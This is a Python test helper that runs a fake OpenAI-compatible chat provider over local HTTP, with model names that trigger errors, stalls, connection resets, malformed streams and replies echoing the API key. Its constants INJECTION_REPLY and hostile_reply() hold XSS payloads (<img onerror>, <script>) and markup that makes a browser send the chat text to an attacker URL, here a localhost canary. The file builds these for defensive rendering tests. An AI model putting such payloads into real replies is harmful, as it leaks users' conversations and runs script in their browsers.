"""A fake OpenAI-compatible provider over real HTTP, for tests and benchmarks.

The model name picks the behaviour, so one server serves every case and a test reads like the
request it makes:

    any plain name        streams "You said: <last user message>" word by word
    status-<code>         answers <code> with a JSON error body (status-429-retry-7 adds Retry-After)
    echo-key-401          a 401 whose message repeats the whole bearer token, as some providers do
    body-<name>           a real provider's error body from tests/error_bodies.py, with its status and
                          headers (``<KEY>`` in it becomes the bearer token)
    nonjson-<code>        answers <code> with an HTML body
    insufficient-quota    429 with code insufficient_quota
    huge-error-<code>-<mb> answers <code> with a JSON error body padded to <mb> MB
    endless-error-<code>  answers <code> with a chunked JSON error body that never ends
                          (``error_bytes_sent`` counts what either of these got out)
    redirect              307 to /redirected/v1/chat/completions on this server (must never be followed)
    cutoff                streams text, then ends cleanly without a finish reason or [DONE]
    reset                 streams text, then resets the TCP connection (RST)
    drop                  streams text, then closes the connection mid-body (FIN, no last chunk)
    hang                  accepts the request and never answers (not even headers)
    stall                 streams some text, then goes silent
    stall-<n>             streams <n> words, then goes silent (stall-0: headers, then silence)
    keepalive             streams some text, then only SSE comments (": ping") forever
    drip-<ms>             streams 40 chunks <ms> apart
    drip-<ms>-<n>         streams <n> chunks <ms> apart
    malformed             a broken SSE data line mid-stream
    error-event           an `error` event inside the stream
    error-data            a plain data line carrying {"error": ...} mid-stream (no event name)
    sse-quirks            legal SSE that is rarely seen: CRLF line ends, comments, id/retry fields,
                          one event's JSON over two data lines, writes cut mid-line, and a last
                          event (the finish reason) with no blank line after it and no [DONE]
    error-event-echo      an `error` event whose message repeats the whole bearer token
    empty                 finishes without any text
    huge                  a reply of 200,000 characters
    html                  a reply carrying an <img onerror> and a <script> payload, plus Markdown
    hostile-<port>        a reply whose images, media, CSS and form all point at http://127.0.0.1:<port>
    reason-<shape>        thinks first, then answers "You said: ...", in one of the three shapes
                          providers use: reason-content (delta.reasoning_content), reason-field
                          (delta.reasoning), reason-think (<think>...</think> inline in content, the
                          tags split across chunks); usage carries OpenRouter's `cost`
    reason-<shape>-<ms>   the same, one chunk every <ms>
    chunks-<n>-<ms>       <n> chunks of one word, <ms> apart (benchmarks)
    echo-<ms>             the plain echo, one word every <ms> (soak: slow, and checkable per chat)
    novision-*            refuses any image part with OpenAI's 400 (invalid_request_error on image_url)

Every other model takes images, and its echo ends with "[saw <n> images]" when the last user turn
carried any. ``content_parts`` lists every content part of every message received, in order.

``strict = True`` makes the fake refuse what real providers refuse, with each provider's own 400
body (tests/strict_rules.py: temperature on reasoning models, ``max_tokens`` where
``max_completion_tokens`` is required, ``reasoning_effort`` on models that do not reason, images
to text-only models). The provider is the first segment of the path (``routed_env``'s /<id>/v1).

``GET .../models`` lists LIVE_MODELS. A base URL path segment ``models-<mode>`` (point a provider
at ``http://127.0.0.1:<port>/models-<mode>/v1``; chats there work as usual) changes that answer:

    models-status-<code>  answers <code> with a JSON error body
    models-hang           never answers
    models-malformed      a 200 whose body is not JSON
    models-nodata         a 200 JSON object without a ``data`` list
    models-many-<n>       lists <n> models (model-00000, model-00001, ...)
    models-echo-key-401   a 401 whose message repeats the whole bearer token
    models-echo-key-ids   lists the bearer token, an id holding it and a key-shaped id among LIVE_MODELS

A bearer token containing ``-invalid-`` gets a 401 from ``/models`` on any path (a wrong key).

Every request is recorded with its path, Authorization header, headers and JSON body.
``active`` counts requests being answered, ``open_streams`` streams being sent: both fall back to
0 once the client has closed its connection, since every "silent" mode watches for the client
hanging up (so a test can tell that the app released its upstream connection).
"""

from __future__ import annotations

import json
import os
import re
import select
import socket
import struct
import sys
import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests import error_bodies, strict_rules

INJECTION_REPLY = (
    'Here is **bold** and `code`.\n\n<img src=x onerror="window.__pwned=1">'
    "<script>window.__pwned=2</script>\n\n```python\nprint('hi')\n```"
)


def hostile_reply(attacker: str) -> str:
    """Every way a rendered reply could make the browser fetch from elsewhere (the chat text would
    ride in the query string), around markdown, code and LaTeX that must still render."""
    leak = "?q=the+chat+so+far"
    return (
        "Hostile reply: **bold** text.\n\n"
        f"![chart]({attacker}/md-image{leak})\n\n"
        f'<img src="{attacker}/img-tag{leak}">\n\n'
        f'<svg width="10" height="10"><image href="{attacker}/svg-image{leak}" width="10" height="10"/></svg>\n\n'
        f'<div style="background-image: url({attacker}/css-url{leak})">styled</div>\n\n'
        f'<video src="{attacker}/video{leak}" autoplay muted></video>\n\n'
        f'<audio src="{attacker}/audio{leak}" autoplay></audio>\n\n'
        f'<video poster="{attacker}/video-poster{leak}"></video>\n\n'
        f'<form action="{attacker}/form" method="get"><input name="q" value="x"><button id="hostile-submit">Go</button>'
        "</form>\n\n"
        "```python\nprint('code block')\n```\n\n"
        "$$E = mc^2$$\n"
    )


# What GET /models lists by default; none of them is in the registry's curated lists.
LIVE_MODELS = ("fake-model", "fake-live-alpha", "fake-live-beta")


@dataclass
class RecordedRequest:
    method: str
    path: str
    authorization: str | None
    headers: dict[str, str]
    body: dict[str, Any] = field(default_factory=dict)
    # The client's source port: two requests with the same port came over one kept-alive connection.
    peer_port: int = 0


class FakeProvider:
    def __init__(self, host: str = "127.0.0.1", port: int = 0) -> None:
        self.requests: list[RecordedRequest] = []
        self.content_parts: list[dict[str, Any]] = []
        self.open_streams = 0
        self.active = 0
        self.closed_early = 0
        self.error_bytes_sent = 0
        # Refuse what the real provider refuses (tests/strict_rules.py); off by default.
        self.strict = False
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._server = _QuietServer((host, port), _handler_for(self))
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    @property
    def port(self) -> int:
        return self._server.server_address[1]

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    def start(self) -> FakeProvider:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._server.shutdown()
        self._server.server_close()

    def reset(self) -> None:
        with self._lock:
            self.requests.clear()
            self.content_parts.clear()
            self.closed_early = 0
            self.error_bytes_sent = 0

    def record(self, request: RecordedRequest) -> None:
        with self._lock:
            self.requests.append(request)
            for message in request.body.get("messages") or []:
                content = message.get("content") if isinstance(message, dict) else None
                if isinstance(content, list):
                    self.content_parts.extend(p for p in content if isinstance(p, dict))

    def image_urls(self, request: RecordedRequest | None = None) -> list[str]:
        """The image_url URLs of one request (the last chat request by default), in order."""
        request = request or self.chat_requests[-1]
        return [
            part["image_url"]["url"]
            for message in request.body.get("messages") or []
            if isinstance(message.get("content"), list)
            for part in message["content"]
            if part.get("type") == "image_url"
        ]

    @property
    def chat_requests(self) -> list[RecordedRequest]:
        return [r for r in self.requests if r.path.endswith("/chat/completions")]

    def wait_idle(self, timeout: float = 5.0) -> bool:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.open_streams == 0 and self.active == 0:
                return True
            time.sleep(0.02)
        return False


class _QuietServer(ThreadingHTTPServer):
    # socketserver's default backlog of 5 refuses a burst of new connections (a soak's 50
    # clients); a real provider's is far larger.
    request_queue_size = 256

    def handle_error(self, request: Any, client_address: Any) -> None:
        # A client hanging up on a pooled connection is routine (the app closes streams it stops
        # reading); anything else is still printed.
        if not isinstance(sys.exc_info()[1], ConnectionError):
            super().handle_error(request, client_address)


def _handler_for(fake: FakeProvider) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            self._record({})
            if self.path.rstrip("/").endswith("/models"):
                self._models()
            else:
                self._json(404, {"error": {"message": "not found"}})

        def _models(self) -> None:
            token = (self.headers.get("Authorization") or "").removeprefix("Bearer ")
            mode = next((seg[len("models-") :] for seg in self.path.split("/") if seg.startswith("models-")), "")
            if "-invalid-" in token:
                self._json(401, {"error": {"message": "Invalid API key", "code": "invalid_api_key"}})
            elif m := re.fullmatch(r"status-(\d{3})", mode):
                self._json(int(m.group(1)), {"error": {"message": f"fake {m.group(1)}", "type": "fake"}})
            elif mode == "echo-key-ids":
                ids = [token, f"ft:{token}:mine", "sk-proj-abcdefghijklmnopqrstuvwx", *LIVE_MODELS]
                self._json(200, {"object": "list", "data": [{"id": i, "object": "model"} for i in ids]})
            elif mode == "echo-key-401":
                self._json(401, {"error": {"message": f"Incorrect API key provided: {token}"}})
            elif mode == "hang":
                self._wait_for_hangup(600)
            elif mode == "malformed":
                data = b'{"object": "list", "data": [{"id": "fake-model"'
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)
            elif mode == "nodata":
                self._json(200, {"object": "list", "models": ["fake-model"]})
            elif m := re.fullmatch(r"many-(\d+)", mode):
                models = [{"id": f"model-{i:05d}", "object": "model"} for i in range(int(m.group(1)))]
                self._json(200, {"object": "list", "data": models})
            else:
                self._json(200, {"object": "list", "data": [{"id": i, "object": "model"} for i in LIVE_MODELS]})

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            raw = self.rfile.read(length) if length else b""
            try:
                body = json.loads(raw or b"{}")
            except json.JSONDecodeError:
                body = {"_raw": raw.decode("utf-8", "replace")}
            self._record(body)
            if not self.path.rstrip("/").endswith("/chat/completions"):
                self._json(404, {"error": {"message": "not found"}})
                return
            if fake.strict and (refused := strict_rules.refusal(self.path.strip("/").split("/")[0], body)):
                self._json(*refused)
                return
            with fake._lock:
                fake.active += 1
            try:
                self._chat(body)
            except (BrokenPipeError, ConnectionResetError):
                pass
            finally:
                with fake._lock:
                    fake.active -= 1

        def _record(self, body: dict[str, Any]) -> None:
            fake.record(
                RecordedRequest(
                    method=self.command,
                    path=self.path,
                    authorization=self.headers.get("Authorization"),
                    headers={k.lower(): v for k, v in self.headers.items()},
                    body=body,
                    peer_port=self.client_address[1],
                )
            )

        def _json(self, status: int, payload: object, headers: dict[str, str] | None = None) -> None:
            data = json.dumps(payload).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            for name, value in (headers or {}).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(data)

        def _chat(self, body: dict[str, Any]) -> None:
            model = str(body.get("model", ""))
            if m := re.fullmatch(r"status-(\d{3})(?:-retry-(\d+))?", model):
                headers = {"Retry-After": m.group(2)} if m.group(2) else {}
                self._json(int(m.group(1)), {"error": {"message": f"fake {m.group(1)}", "type": "fake"}}, headers)
                return
            if model.startswith("body-") and (recorded := error_bodies.BODIES.get(model.removeprefix("body-"))):
                token = (self.headers.get("Authorization") or "").removeprefix("Bearer ")
                data = recorded.payload(token)
                self.send_response(recorded.status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                for name, value in recorded.headers.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(data)
                return
            if model == "echo-key-401":
                token = (self.headers.get("Authorization") or "").removeprefix("Bearer ")
                message = f"Incorrect API key provided: {token}"
                self._json(401, {"error": {"message": message, "code": "invalid_api_key"}})
                return
            if model == "redirect":
                self.send_response(307)
                self.send_header("Location", "/redirected/v1/chat/completions")
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            if m := re.fullmatch(r"(?:huge-error-(\d{3})-(\d+)|endless-error-(\d{3}))", model):
                self._flood_error(int(m.group(1) or m.group(3)), int(m.group(2) or 0) * 1024 * 1024)
                return
            if model == "insufficient-quota":
                self._json(429, {"error": {"message": "quota", "code": "insufficient_quota"}})
                return
            if m := re.fullmatch(r"nonjson-(\d{3})", model):
                data = b"<html><body>Bad gateway</body></html>"
                self.send_response(int(m.group(1)))
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)
                return
            if model.startswith("novision") and _has_images(body):
                # The error OpenAI sends when a text-only model is given an image part.
                message = "Invalid content type. image_url is only supported by certain models."
                error = {"message": message, "type": "invalid_request_error", "param": "messages", "code": None}
                self._json(400, {"error": error})
                return
            if model == "hang":
                self._wait_for_hangup(600)
                return
            self._stream(model, body)

        def _stream(self, model: str, body: dict[str, Any]) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            with fake._lock:
                fake.open_streams += 1
            try:
                self._stream_body(model, body)
            except (BrokenPipeError, ConnectionResetError):
                with fake._lock:
                    fake.closed_early += 1
            finally:
                with fake._lock:
                    fake.open_streams -= 1

        def _stream_body(self, model: str, body: dict[str, Any]) -> None:
            if model == "sse-quirks":
                self._quirky_body(model, body)
                return
            if m := re.fullmatch(r"reason-(content|field|think)(?:-(\d+))?", model):
                self._reasoning_body(model, m.group(1), int(m.group(2) or 0) / 1000, body)
                return
            words, delay = _reply_plan(model, body)
            include_usage = bool((body.get("stream_options") or {}).get("include_usage"))
            if model == "empty":
                words = []
            stall_at = 3 if model == "stall" else int(m.group(1)) if (m := re.fullmatch(r"stall-(\d+)", model)) else -1
            for index, word in enumerate(words):
                if fake._stop.is_set():
                    return
                if index == stall_at:
                    self._wait_for_hangup(600)
                    return
                if model == "malformed" and index == 2:
                    self._chunk(b"data: {this is not json\n\n")
                if model == "error-data" and index == 2:
                    self._chunk(b'data: {"error": {"message": "upstream exploded", "code": 500}}\n\n')
                    self._end()
                    return
                if model.startswith("error-event") and index == 2:
                    message = "upstream exploded"
                    if model == "error-event-echo":
                        message += ": " + (self.headers.get("Authorization") or "")
                    self._event({"error": {"message": message, "type": "server_error"}}, event="error")
                    self._end()
                    return
                if model == "reset" and index == 3:
                    self._reset()
                    return
                if model == "drop" and index == 3:
                    self._drop()
                    return
                if model == "keepalive" and index == 3:
                    while not self._wait_for_hangup(0.2):
                        self._chunk(b": ping\n\n")
                    return
                self._event(_chunk(model, {"content": word}))
                if delay:
                    time.sleep(delay)
            if model == "cutoff":
                self._end()
                return
            self._event(_chunk(model, {}, finish_reason="stop"))
            if include_usage:
                usage = {"prompt_tokens": 11, "completion_tokens": len(words), "total_tokens": 11 + len(words)}
                self._event({**_chunk(model, {}), "choices": [], "usage": usage})
            self._chunk(b"data: [DONE]\n\n")
            self._end()

        def _reasoning_body(self, model: str, shape: str, delay: float, body: dict[str, Any]) -> None:
            last_user = _last_user(body)
            thoughts = [w + " " for w in f"Let me think about {last_user} step by step.".split(" ")]
            answer, _ = _reply_plan("plain", body)
            if shape == "think":
                # The tags cut across chunks, as a tokenizer would send them.
                text = "<think>" + "".join(thoughts) + "</think>\n\n"
                deltas = [{"content": text[i : i + 5]} for i in range(0, len(text), 5)]
            else:
                field_name = "reasoning_content" if shape == "content" else "reasoning"
                deltas = [{"content": None, field_name: t} for t in thoughts]
            deltas += [{"content": word} for word in answer]
            for delta in deltas:
                if fake._stop.is_set():
                    return
                self._event(_chunk(model, delta))
                if delay and self._wait_for_hangup(delay):
                    with fake._lock:
                        fake.closed_early += 1
                    return
            self._event(_chunk(model, {}, finish_reason="stop"))
            if (body.get("stream_options") or {}).get("include_usage"):
                completion = len(thoughts) + len(answer)
                usage = {"prompt_tokens": 11, "completion_tokens": completion, "total_tokens": 11 + completion}
                self._event({**_chunk(model, {}), "choices": [], "usage": {**usage, "cost": 0.00042}})
            self._chunk(b"data: [DONE]\n\n")
            self._end()

        def _quirky_body(self, model: str, body: dict[str, Any]) -> None:
            words, _ = _reply_plan("plain", body)
            stream = b": OPENROUTER PROCESSING\r\n\r\nretry: 3000\r\n\r\n"
            for index, word in enumerate(words):
                data = json.dumps(_chunk(model, {"content": word}))
                if index == 1:
                    # One event, its JSON over two data lines: joined with a newline, still JSON.
                    head, tail = data.split(", ", 1)
                    stream += f"id: {index}\r\ndata: {head},\r\ndata: {tail}\r\n\r\n".encode()
                else:
                    stream += f"id: {index}\r\ndata: {data}\r\n\r\n".encode()
                stream += b": keep-alive\r\n\r\n"
            stream += f"data: {json.dumps(_chunk(model, {}, finish_reason='stop'))}\r\n".encode()
            for start in range(0, len(stream), 7):  # writes cut mid-line, mid-CRLF
                self._chunk(stream[start : start + 7])
            self._end()

        def _flood_error(self, status: int, size: int) -> None:
            """An error whose body is ``size`` bytes (0: without end), sent until the client hangs up."""
            head = b'{"error": {"message": "flood", "type": "server_error"}, "padding": "'
            block = b" " * 65536
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            if size:
                self.send_header("Content-Length", str(size))
            else:
                self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            sent = 0
            try:
                while not fake._stop.is_set() and (not size or sent < size):
                    data = head if sent == 0 else block[: size - sent] if size else block
                    self.wfile.write(data if size else f"{len(data):x}\r\n".encode() + data + b"\r\n")
                    sent += len(data)
                    with fake._lock:
                        fake.error_bytes_sent = sent
            except (BrokenPipeError, ConnectionResetError):
                self.close_connection = True

        def _event(self, payload: dict[str, Any], event: str | None = None) -> None:
            prefix = f"event: {event}\n".encode() if event else b""
            self._chunk(prefix + b"data: " + json.dumps(payload).encode() + b"\n\n")

        def _chunk(self, data: bytes) -> None:
            self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
            self.wfile.flush()

        def _end(self) -> None:
            self.wfile.write(b"0\r\n\r\n")
            self.wfile.flush()

        def _reset(self) -> None:
            # Closing the socket object is not enough: rfile/wfile keep it open until the handler
            # returns, and socketserver then ends it politely with a FIN. Close the descriptor
            # itself with a zero linger, which sends an RST at once.
            self.close_connection = True
            # An RST makes the client's kernel drop bytes it has not read yet: give it time to
            # read the words already sent, so the test sees a reset *mid-stream*.
            time.sleep(0.2)
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            os.close(self.connection.detach())

        def _drop(self) -> None:
            # A FIN in the middle of a chunked body: the client sees an incomplete message.
            self.close_connection = True
            self.connection.shutdown(socket.SHUT_RDWR)

        def _wait_for_hangup(self, seconds: float) -> bool:
            """Stay silent up to ``seconds``; True as soon as the client closes the connection."""
            deadline = time.monotonic() + seconds
            while not fake._stop.is_set():
                left = deadline - time.monotonic()
                if left <= 0:
                    return False
                readable, _, _ = select.select([self.connection], [], [], min(left, 0.05))
                if readable:
                    try:
                        if not self.connection.recv(1, socket.MSG_PEEK):
                            self.close_connection = True
                            return True
                    except OSError:
                        self.close_connection = True
                        return True
                    # The client sent more bytes (the next pipelined request): not a hang-up.
                    time.sleep(0.05)
            return True

    return Handler


def _reply_plan(model: str, body: dict[str, Any]) -> tuple[list[str], float]:
    if m := re.fullmatch(r"chunks-(\d+)-(\d+)", model):
        return ["tok "] * int(m.group(1)), int(m.group(2)) / 1000
    if m := re.fullmatch(r"drip-(\d+)(?:-(\d+))?", model):
        return ["drip "] * int(m.group(2) or 40), int(m.group(1)) / 1000
    if model in {"reset", "drop", "stall", "keepalive", "error-data"} or model.startswith(("stall-", "error-event")):
        return [f"word{i} " for i in range(20)], 0.0
    if model == "huge":
        return ["x" * 1000] * 200, 0.0
    if model == "html":
        return [INJECTION_REPLY[i : i + 20] for i in range(0, len(INJECTION_REPLY), 20)], 0.0
    if m := re.fullmatch(r"hostile-(\d+)", model):
        reply = hostile_reply(f"http://127.0.0.1:{m.group(1)}")
        return [reply[i : i + 40] for i in range(0, len(reply), 40)], 0.0
    words = f"You said: {_last_user(body)}{_images_seen(body)}".split(" ")
    delay = int(m.group(1)) / 1000 if (m := re.fullmatch(r"echo-(\d+)", model)) else 0.0
    return [w + " " for w in words[:-1]] + words[-1:], delay


def _last_user(body: dict[str, Any]) -> str:
    """The last user message's text (its text parts, when it carries images)."""
    content = _last_user_content(body)
    if isinstance(content, list):
        return " ".join(p.get("text", "") for p in content if p.get("type") == "text")
    return content


def _images_seen(body: dict[str, Any]) -> str:
    content = _last_user_content(body)
    count = sum(1 for p in content if p.get("type") == "image_url") if isinstance(content, list) else 0
    return f" [saw {count} images]" if count else ""


def _last_user_content(body: dict[str, Any]) -> Any:
    return next(
        (m.get("content", "") for m in reversed(body.get("messages") or []) if m.get("role") == "user"),
        "",
    )


def _has_images(body: dict[str, Any]) -> bool:
    return any(
        isinstance(m.get("content"), list) and any(p.get("type") == "image_url" for p in m["content"])
        for m in body.get("messages") or []
        if isinstance(m, dict)
    )


def _chunk(model: str, delta: dict[str, Any], finish_reason: str | None = None) -> dict[str, Any]:
    return {
        "id": "chatcmpl-fake",
        "object": "chat.completion.chunk",
        "created": int(time.time()),
        "model": model,
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish_reason}],
    }
